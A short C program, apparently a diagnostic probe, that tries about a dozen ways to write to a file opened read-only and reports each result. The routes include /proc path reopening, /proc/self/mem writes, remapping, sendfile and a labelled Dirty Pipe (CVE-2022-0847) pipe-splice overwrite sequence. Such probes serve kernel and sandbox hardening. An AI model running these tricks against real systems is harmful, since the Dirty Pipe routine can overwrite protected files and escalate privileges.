/* Write to a file of the system through what the kernel makes of its descriptors and mappings; one line each. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <unistd.h>

static void tell(const char *what, long result) {
    printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
}

static void attempt(const char *what, const char *format, ...) {
    char path[128];
    __builtin_va_list arguments;
    __builtin_va_start(arguments, format);
    vsnprintf(path, sizeof path, format, arguments);
    int fd = open(path, O_WRONLY);
    tell(what, fd);
    close(fd);
}

int main(int argc, char **argv) {
    const char *path = argv[1];
    int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR), pipes[2];
    char *shared = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0), *own = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    char before = shared[0];
    attempt("fd", "/proc/self/fd/%d", fd);
    attempt("dev fd", "/dev/fd/%d", fd);
    attempt("thread's fd", "/proc/thread-self/fd/%d", fd);
    attempt("root", "/proc/self/root%s", path);
    attempt("cwd", "/proc/self/cwd/..%s", path);
    attempt("task", "/proc/self/task/%d/root%s", getpid(), path);
    attempt("map_files", "/proc/self/map_files/%lx-%lx", (long)shared, (long)shared + 4096);
    tell("memory", memory);
    tell("write to memory", memory < 0 ? -1 : pwrite(memory, "X", 1, (off_t)own));
    tell("mprotect", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
    tell("shared mapping", mmap(0, 4096, PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
    tell("sendfile", sendfile(fd, open("/proc/self/exe", O_RDONLY), 0, 1));
    /* Dirty pipe, CVE-2022-0847: a pipe whose page is the file's, written to. */
    pipe(pipes);
    for (int i = 0; i < 16 * 4096; i += 4096)
        write(pipes[1], memset(malloc(4096), 0, 4096), 4096);
    for (int i = 0; i < 16 * 4096; i += 4096)
        read(pipes[0], malloc(4096), 4096);
    tell("splice from it", splice(fd, &(off_t){0}, pipes[1], 0, 1, 0));
    write(pipes[1], "XXXX", 4);
    tell("splice into it", splice(pipes[0], 0, fd, &(off_t){0}, 1, 0));
    printf("first byte: %s\n", shared[0] == before ? "same" : "changed");
    tell("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
    tell("seal", fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE));
}
